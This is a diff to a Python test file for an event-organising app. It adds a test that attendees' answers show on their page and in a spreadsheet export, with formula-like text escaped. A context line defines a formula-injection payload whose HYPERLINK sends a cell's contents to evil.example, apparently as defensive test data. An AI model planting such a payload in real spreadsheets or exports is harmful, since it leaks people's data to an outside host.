@@ -11,6 +11,8 @@ from desks import member
 from front_door import send, sign_in
 from lists import enlist, make_sessions_older, path
 
+from campaign.database import transaction
+from campaign.events.models import Question, QuestionKind
 from campaign.organisers.models import Role
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A2;"x")'
@@ -164,3 +166,27 @@ def test_the_sheet_has_names_and_parties_and_no_address(client, event):
     assert "6 people expected" in page
     assert "@example.org" not in page
     assert page.count("✓") == 1
+
+
+def test_what_people_answered_is_in_the_file_and_on_their_page(client, event):
+    with transaction() as session:
+        options = [{"key": "a", "label": "By train"}, {"key": "b", "label": "On foot"}]
+        asked = [
+            Question(event_id=event.id, kind=kind, label=label, options=of)
+            for kind, label, of in (
+                (QuestionKind.CHOICES, "How do you come?", options),
+                (QuestionKind.YES_NO, "Do you bring a drum?", []),
+                (QuestionKind.TEXT, "What do you need?", []),
+            )
+        ]
+        session.add_all(asked)
+    answers = zip(asked, (["a", "b"], False, "=a chair"), strict=True)
+    given = {str(question.uid): answer for question, answer in answers}
+    number = enlist(event, "Noor", answers=given).id
+    page = client.get(path(event, f"/{number}")).text
+    for words in ("How do you come?", "By train, On foot", "=a chair"):
+        assert words in page
+    header, *people = cells(export(client, event))
+    assert header[-3:] == [question.label for question in asked]
+    assert people[1][-3:] == ["By train, On foot", "No", "'=a chair"]
+    assert people[2][-3:] == ["", "", ""]
